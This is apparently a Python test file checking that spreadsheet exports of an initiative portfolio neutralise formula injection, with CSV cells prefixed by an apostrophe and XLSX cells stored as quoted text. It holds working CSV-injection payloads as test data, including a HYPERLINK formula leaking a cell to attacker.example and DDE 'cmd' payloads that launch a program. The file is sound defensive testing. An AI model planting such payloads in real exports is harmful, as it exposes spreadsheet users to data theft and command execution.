"""Exports an executive opens in Excel: text that would run as a formula arrives as text, numbers
arrive as numbers, and nothing else changes."""
from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import numpy as np
import pandas as pd
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from analytics.tablefiles import safe_sheet_name, to_csv_bytes, to_xlsx_bytes
from tests.support import hostile

ATTACKS = {
    "AI-1": "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")",
    "AI-2": "+cmd|' /C calc'!A0",
    "AI-3": "-2+3+cmd|' /C calc'!A0",
    "AI-4": "@SUM(1+1)*cmd|' /C calc'!A0",
    "AI-5": "\t=1+1",
    "AI-6": "\r=1+1",
    "AI-7": "\n=1+1",
}


def portfolio() -> pd.DataFrame:
    """Seven initiatives whose names are attacks, one plain one, with money and dates."""
    ids = [*ATTACKS, "AI-8"]
    return pd.DataFrame({
        "initiative_id": ids,
        "name": [*ATTACKS.values(), "Invoice triage - phase 2"],
        "owner": ["A. Lee"] * 7 + [None],
        "budget": [-5.0, 120_000.0, 0.0, 1.5, np.nan, 2e6, 3.0, 4.0],
        "readiness": [1, 2, 3, 4, 5, 1, 2, 3],
        "pilot_start": pd.to_datetime(["2024-01-15"] * 7 + [None]),
    })


def read_csv_cells(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_text_that_would_run_as_a_formula_gets_a_leading_apostrophe() -> None:
    rows = read_csv_cells(to_csv_bytes(portfolio()))

    header, body = rows[0], rows[1:]
    names = {row[0]: row[header.index("name")] for row in body}
    for initiative, attack in ATTACKS.items():
        assert names[initiative] == "'" + attack
    assert names["AI-8"] == "Invoice triage - phase 2"


def test_csv_numbers_stay_numbers_even_when_negative() -> None:
    rows = read_csv_cells(to_csv_bytes(portfolio()))

    budgets = [row[rows[0].index("budget")] for row in rows[1:]]
    assert budgets[0] == "-5.0"
    assert budgets[4] == ""
    assert [row[rows[0].index("readiness")] for row in rows[1:]][:3] == ["1", "2", "3"]


def test_csv_headers_and_mixed_columns_are_cells_too() -> None:
    frame = pd.DataFrame({"=cmd|' /C calc'!A0": ["-5", -5, "ok", None]})

    rows = read_csv_cells(to_csv_bytes(frame))

    assert rows[0] == ["'=cmd|' /C calc'!A0"]
    assert [r[0] for r in rows[1:]] == ["'-5", "-5", "ok", ""]


def test_export_never_changes_the_frame_it_was_given() -> None:
    frame = portfolio()
    before = frame.copy(deep=True)

    to_csv_bytes(frame)
    to_xlsx_bytes(frame, "Portfolio")

    pd.testing.assert_frame_equal(frame, before)


def test_a_named_index_is_exported_as_the_first_column() -> None:
    by_unit = pd.DataFrame({"business_unit": ["Finance", "=Sales"], "stalled": [3, 1]}).set_index(
        "business_unit")

    rows = read_csv_cells(to_csv_bytes(by_unit))

    assert rows == [["business_unit", "stalled"], ["Finance", "3"], ["'=Sales", "1"]]


def test_xlsx_has_no_formula_cells_and_keeps_the_exact_text() -> None:
    data = to_xlsx_bytes(portfolio(), "Portfolio")

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(data))["Portfolio"]
    cells = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    for initiative, attack in ATTACKS.items():
        cell = cells[initiative]
        assert cell.data_type == "s" and cell.value == attack
        assert cell.quotePrefix, f"{initiative} would turn into a formula when edited in Excel"
    assert not cells["AI-8"].quotePrefix


def test_xlsx_numbers_dates_and_gaps_keep_their_types() -> None:
    sheet = load_workbook(io.BytesIO(to_xlsx_bytes(portfolio(), "Portfolio")))["Portfolio"]
    header = [c.value for c in sheet[1]]
    first, fifth, last = sheet[2], sheet[6], sheet[9]

    assert first[header.index("budget")].value == -5
    assert first[header.index("budget")].data_type == "n"
    assert first[header.index("readiness")].value == 1
    assert first[header.index("pilot_start")].value.date() == date(2024, 1, 15)
    assert fifth[header.index("budget")].value is None
    assert last[header.index("owner")].value is None
    assert sheet.freeze_panes == "A2"


def test_xlsx_drops_characters_excel_cannot_store() -> None:
    frame = pd.DataFrame({"notes": ["vendor\x00 review\x07", "x" * 40_000]})

    values = CalamineWorkbook.from_filelike(io.BytesIO(to_xlsx_bytes(frame))).get_sheet_by_index(
        0).to_python()

    assert values[1][0] == "vendor review"
    assert len(values[2][0]) == 32_767


def test_sheet_names_are_made_acceptable_to_excel() -> None:
    assert safe_sheet_name("Stalls: Q3/Q4 [draft] by business unit") == "Stalls- Q3-Q4 -draft- by busine"
    assert len(safe_sheet_name("x" * 40)) == 31
    assert safe_sheet_name("  ") == "Sheet1"
    data = to_xlsx_bytes(portfolio(), "Funnel: 2025/03")
    assert load_workbook(io.BytesIO(data)).sheetnames == ["Funnel- 2025-03"]


def test_an_uploaded_workbook_with_attacks_exports_harmlessly() -> None:
    cells = CalamineWorkbook.from_filelike(io.BytesIO(hostile.formula_injection_workbook())) \
        .get_sheet_by_index(0).to_python()
    frame = pd.DataFrame(cells[1:], columns=cells[0])

    rows = read_csv_cells(to_csv_bytes(frame))

    text_cells = [cell for row in rows[1:] for cell in row]
    assert "'=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")" in text_cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r", "\n")) for cell in text_cells)
    assert "-5.0" in text_cells
